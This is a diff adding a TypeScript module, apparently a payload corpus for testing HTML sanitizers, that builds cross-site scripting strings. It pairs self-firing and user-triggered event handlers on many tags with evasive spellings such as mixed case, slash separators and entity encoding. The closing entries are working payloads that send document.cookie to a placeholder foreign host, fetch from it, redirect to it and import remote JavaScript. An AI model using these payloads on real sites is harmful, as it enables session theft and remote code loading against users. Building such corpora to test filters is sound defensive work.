@@ -1,0 +1,76 @@
+import { combine } from "../combine.ts";
+import { FOREIGN_HOST, RUN } from "../hook.ts";
+
+/** An element that does not wait for anybody before it calls its handler: name, handler, what else it needs. */
+const SELF_STARTING = [
+  ["img", "onerror", "src=x"],
+  ["image", "onerror", "src=x"],
+  ["svg", "onload", ""],
+  ["body", "onload", ""],
+  ["body", "onpageshow", ""],
+  ["iframe", "onload", ""],
+  ["object", "onerror", "data=x:"],
+  ["embed", "onload", "src=about:blank"],
+  ["link", "onerror", "rel=stylesheet href=x:"],
+  ["style", "onload", ""],
+  ["script", "onerror", "src=x:"],
+  ["video", "onerror", "src=x"],
+  ["audio", "onerror", "src=x"],
+  ["details", "ontoggle", "open"],
+  ["marquee", "onstart", ""],
+  ["input", "onfocus", "autofocus"],
+  ["textarea", "onfocus", "autofocus"],
+  ["select", "onfocus", "autofocus"],
+  ["button", "onfocus", "autofocus"],
+  ["p", "onfocus", "tabindex=0 autofocus"],
+  ["xyz", "onfocus", "contenteditable autofocus"],
+  ["input", "onerror", "type=image src=x"],
+] as const;
+
+/** A handler that somebody has to set off. */
+const WAITING = [
+  ["a", "onclick"],
+  ["div", "onpointerover"],
+  ["b", "onmouseenter"],
+  ["form", "onsubmit"],
+  ["form", "onformdata"],
+  ["input", "oninput"],
+  ["input", "oninvalid"],
+  ["dialog", "onclose"],
+  ["div popover", "onbeforetoggle"],
+  ["div", "onanimationstart"],
+  ["div", "ontransitionend"],
+  ["div", "oncontentvisibilityautostatechange"],
+  ["div", "onbeforematch"],
+  ["div", "onscrollend"],
+  ["body", "onhashchange"],
+  ["body", "onmessage"],
+  ["body", "onbeforeunload"],
+  ["p", "oncopy"],
+  ["p", "onkeydown"],
+  ["p", "onwheel"],
+] as const;
+
+/** Ways of writing one and the same handler. */
+const SPELLINGS: readonly ((handler: string) => string)[] = [
+  (handler) => ` ${handler}=${RUN}`,
+  (handler) => `/${handler}="${RUN}"`,
+  (handler) => `\n${handler.toUpperCase()}\n=\n'${RUN}'`,
+  (handler) => `\t${handler} = &#95;&#x5f;xss&lpar;)`,
+];
+
+/** Event handlers: those that start by themselves in every spelling, others in one, and some that end in a dialog or a request. */
+export const handlers: readonly string[] = [
+  ...combine(SELF_STARTING, SPELLINGS, ([tag, handler, rest], spell) => `<${tag} ${rest}${spell(handler)}>`),
+  ...WAITING.map(([tag, handler]) => `<${tag} ${handler}=${RUN}>click me`),
+  "<img src=x onerror=alert(1)>",
+  "<svg onload=confirm`1`>",
+  "<img src=x onerror=prompt(document.domain)>",
+  "<svg onload=print()>",
+  `<img src=x onerror="new Image().src='//${FOREIGN_HOST}/?'+document.cookie">`,
+  `<svg onload="fetch('//${FOREIGN_HOST}/',{mode:'no-cors'})">`,
+  `<img src=x onerror="location='//${FOREIGN_HOST}/'">`,
+  `<img src=x onerror="import('//${FOREIGN_HOST}/m.js')">`,
+  `<img src=x onerror="navigator.sendBeacon('//${FOREIGN_HOST}/')">`,
+  `<svg onload="open('//${FOREIGN_HOST}/')">`,
+];
